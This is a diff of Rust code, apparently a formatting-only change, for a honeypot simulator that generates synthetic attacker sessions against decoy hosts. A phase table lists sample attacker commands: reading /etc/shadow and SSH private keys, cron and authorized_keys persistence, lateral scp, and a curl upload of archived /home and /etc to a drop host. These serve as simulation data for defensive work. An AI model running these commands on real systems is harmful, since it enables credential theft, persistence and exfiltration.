@@ -42,7 +42,8 @@ pub struct Played {
 
 /// Plays `corpus` with `seed`, all times moved by `shift_days`.
 pub fn play(corpus: &Corpus, seed: u64, shift_days: i64) -> Played {
-    let mut stage = Stage { out: Played::default(), deckies: corpus.deckies.max(1), start: EPOCH.0 + shift_days * DAY * SECOND, taken: HashMap::new() };
+    let mut stage =
+        Stage { out: Played::default(), deckies: corpus.deckies.max(1), start: EPOCH.0 + shift_days * DAY * SECOND, taken: HashMap::new() };
     for (at, campaign) in corpus.campaigns.iter().enumerate() {
         stage.campaign(campaign, Dice::named(seed, &format!("campaign {at} {}", campaign.id)), seed);
     }
@@ -82,7 +83,8 @@ impl Stage {
         let mut turns = vec![0_usize; campaign.actors.len()];
         let mut footholds = Footholds::default();
         for act in &campaign.phases {
-            let (Some(actor), Some(rows), Some(turn)) = (campaign.actors.get(act.actor), rows.get(act.actor), turns.get_mut(act.actor)) else {
+            let (Some(actor), Some(rows), Some(turn)) = (campaign.actors.get(act.actor), rows.get(act.actor), turns.get_mut(act.actor))
+            else {
                 continue;
             };
             let days = days(campaign, actor, act);
@@ -94,9 +96,7 @@ impl Stage {
                 let seconds = day * DAY + hour * 3_600 + dice.between(-actor.jitter_seconds, actor.jitter_seconds) + dice.between(0, 3_599);
                 let decky = match &act.target.decky {
                     Which::Any => self.any_decky(&mut dice),
-                    Which::PreviousSuccess => {
-                        self.decky(footholds.by_actor.get(&act.actor).copied().or(footholds.last).unwrap_or(1))
-                    }
+                    Which::PreviousSuccess => self.decky(footholds.by_actor.get(&act.actor).copied().or(footholds.last).unwrap_or(1)),
                     Which::Named(name) => name.clone(),
                 };
                 let success = dice.chance(act.success_rate);
@@ -116,7 +116,16 @@ impl Stage {
                     ip: row.ip,
                 };
                 let tools = tools_on(actor, day);
-                self.session(&Scene { actor, act, truth, decky, at: self.start + seconds * SECOND, success, tools, dice: Dice::new(dice.bits()) });
+                self.session(&Scene {
+                    actor,
+                    act,
+                    truth,
+                    decky,
+                    at: self.start + seconds * SECOND,
+                    success,
+                    tools,
+                    dice: Dice::new(dice.bits()),
+                });
             }
         }
     }
@@ -243,7 +252,9 @@ impl Stage {
                 saw.push((step(&mut dice, pace), attempt));
             }
         }
-        for path in signature.paths.iter().map(String::as_str).chain((signature.user_agent.is_some() && signature.paths.is_empty()).then_some("/")) {
+        for path in
+            signature.paths.iter().map(String::as_str).chain((signature.user_agent.is_some() && signature.paths.is_empty()).then_some("/"))
+        {
             let mut headers = vec![(Captured::from("Host"), Captured::from("localhost"))];
             if let Some(agent) = &signature.user_agent {
                 headers.push(("User-Agent".into(), agent.as_str().into()));
@@ -257,7 +268,16 @@ impl Stage {
                 ..HttpRequest::default()
             };
             let at = scene.at + step(&mut dice, pace);
-            self.connection(scene.truth.clone(), &scene.decky, "http", 80, at, SECOND / 2, vec![(10_000, Saw::Request(request))], &mut dice);
+            self.connection(
+                scene.truth.clone(),
+                &scene.decky,
+                "http",
+                80,
+                at,
+                SECOND / 2,
+                vec![(10_000, Saw::Request(request))],
+                &mut dice,
+            );
         }
         if seen(&mut dice) {
             for line in lines {
@@ -294,7 +314,17 @@ impl Stage {
     }
 
     #[expect(clippy::too_many_arguments, reason = "one connection is this much")]
-    fn connection(&mut self, truth: Truth, decky: &str, service: &str, port: u16, at: i64, duration: i64, saw: Vec<(i64, Saw)>, dice: &mut Dice) {
+    fn connection(
+        &mut self,
+        truth: Truth,
+        decky: &str,
+        service: &str,
+        port: u16,
+        at: i64,
+        duration: i64,
+        saw: Vec<(i64, Saw)>,
+        dice: &mut Dice,
+    ) {
         let source = SocketAddr::new(truth.ip, u16::try_from(dice.between(32_768, 60_999)).unwrap_or(40_000));
         let number = decky.strip_prefix("decky-").and_then(|n| n.parse::<u32>().ok()).unwrap_or(250);
         let local = SocketAddr::new(IpAddr::V4(Ipv4Addr::from(0x0a4d_0000 + (number & 0xffff))), port);
@@ -421,7 +451,9 @@ fn usual(phase: Phase) -> &'static [&'static str] {
     match phase {
         Phase::Discovery => &["whoami", "id", "uname -a", "ip route", "arp -a", "cat /etc/passwd"],
         Phase::CredentialAccess => &["cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat ~/.ssh/known_hosts"],
-        Phase::Persistence => &["(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -", "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys"],
+        Phase::Persistence => {
+            &["(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -", "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys"]
+        }
         Phase::LateralMovement => &["ssh root@10.0.0.5", "scp /tmp/.x root@10.0.0.5:/tmp/"],
         Phase::Collection => &["tar czf /tmp/out.tgz /home /etc"],
         Phase::Exfiltration => &["curl -T /tmp/out.tgz \"$DROP\""],
@@ -464,7 +496,8 @@ mod tests {
         let last = played.events.iter().filter(|e| matches!(e.saw, Saw::FileCaptured { .. })).count();
         assert_eq!(last, 4);
         let hand_over = played.events.iter().find(|e| matches!(&e.saw, Saw::UrlSeen { tool, .. } if tool == "bash")).unwrap();
-        let broken_into: Vec<_> = played.events.iter().filter(|e| matches!(e.saw, Saw::FileCaptured { .. })).map(|e| e.decky.clone()).collect();
+        let broken_into: Vec<_> =
+            played.events.iter().filter(|e| matches!(e.saw, Saw::FileCaptured { .. })).map(|e| e.decky.clone()).collect();
         assert!(broken_into.contains(&hand_over.decky));
     }
 }
